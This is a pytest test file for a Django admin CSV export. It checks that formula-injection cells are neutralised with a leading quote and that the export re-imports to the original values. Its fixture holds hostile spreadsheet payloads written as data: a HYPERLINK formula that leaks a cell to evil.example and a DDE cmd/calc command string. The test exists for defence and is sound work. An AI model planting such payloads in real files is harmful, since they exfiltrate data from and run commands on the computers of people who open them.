"""The CSV export is safe to open in Excel or WPS: a text cell starting with = + - @, a tab or a
carriage return is neutralised with a leading ' (OWASP's CSV-injection rule), and importing the
export gives back the original values; numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from articles.models import CityFigures, Indicator, IndicatorValue

HOSTILE = {
    "gdp_source": '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")',
    "gdp_publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
    "gdp_title": "+1+2",
    "population_source": "-2+3",
    "population_publisher": "'=already quoted",
    "gdp_basis": "\tTAB=1",
}


@pytest.fixture
def hostile(make_city):
    city = make_city("杭州", "hangzhou", figures=[(2024, "21860", "1262")])
    CityFigures.objects.filter(city=city).update(**HOSTILE)
    growth = Indicator.objects.create(code="real_growth", name="实际增速", unit="%")
    IndicatorValue.objects.create(
        city=city, indicator=growth, year=2024, value=Decimal("-1.5"), source="=1+1"
    )
    return city


def export(client):
    response = client.get(reverse("admin:articles_city_export_figures"))
    assert response.status_code == 200
    return b"".join(response).decode("utf-8-sig")


def test_hostile_cells_are_neutralised_and_numbers_stay_numbers(author_client, hostile):
    text = export(author_client)  # Authors can download the export too
    rows = list(csv.DictReader(io.StringIO(text)))
    row = rows[0]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
        assert row[column][0] not in "=+-@\t\r"
    assert row["real_growth_source"] == "'=1+1"
    assert row["real_growth"] == "-1.5000"  # a number, not text: no quote in front
    assert row["gdp_100m_yuan"] == "21860.00"


def test_reimporting_the_export_gives_the_original_values(editor_client, hostile):
    before = CityFigures.objects.values(*HOSTILE).get()
    text = export(editor_client)
    CityFigures.objects.filter(city=hostile).update(**dict.fromkeys(HOSTILE, ""))
    IndicatorValue.objects.update(value=Decimal("7"), source="")
    upload = SimpleUploadedFile("export.csv", text.encode("utf-8-sig"), content_type="text/csv")
    response = editor_client.post(reverse("admin:articles_city_import_figures"), {"file": upload})
    assert response.status_code == 302, response.context["problems"]
    after = CityFigures.objects.values(*HOSTILE).get()
    assert after == before  # the tab too: the quote in front kept it from being trimmed
    value = IndicatorValue.objects.get()
    assert value.value == Decimal("-1.5") and value.source == "=1+1"
